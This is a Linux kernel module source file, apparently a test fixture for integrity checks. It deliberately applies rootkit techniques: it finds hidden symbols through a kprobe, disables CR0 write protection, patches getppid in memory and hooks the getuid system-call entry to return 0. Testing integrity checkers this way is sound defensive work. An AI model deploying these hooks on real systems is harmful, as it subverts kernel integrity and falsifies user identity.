// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
/*
 * A driver that corrupts the kernel it was loaded into, the way rootkits do: it overwrites the first bytes of one system call with a
 * constant answer, and points another one's entry of the system-call table at a function of its own. A target for integrity checks.
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/syscalls.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>

#define ANSWER 0x1337

static unsigned long (*lookup)(const char *name);

static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

/* native_write_cr0() pins WP, so CR0 is written directly. */
static void write_protection(bool on)
{
	unsigned long cr0 = read_cr0();

	cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static asmlinkage long constant_uid(const struct pt_regs *regs)
{
	return 0;
}

static int __init corrupted_driver_init(void)
{
	/* mov eax, ANSWER; ret */
	static const u8 patch[] = { 0xb8, ANSWER & 0xff, ANSWER >> 8, 0, 0, 0xc3 };
	unsigned long *table;
	u8 *call;
	int error = find_lookup();

	if (error)
		return error;
	call = (u8 *)lookup("__x64_sys_getppid");
	table = (unsigned long *)lookup("sys_call_table");
	if (!call || !table)
		return -ENOENT;

	preempt_disable();
	write_protection(false);
	memcpy(call, patch, sizeof(patch));
	table[__NR_getuid] = (unsigned long)constant_uid;
	write_protection(true);
	preempt_enable();
	return 0;
}

static void __exit corrupted_driver_exit(void)
{
}

module_init(corrupted_driver_init);
module_exit(corrupted_driver_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Corrupts the kernel it is loaded into, for tests of integrity checks");
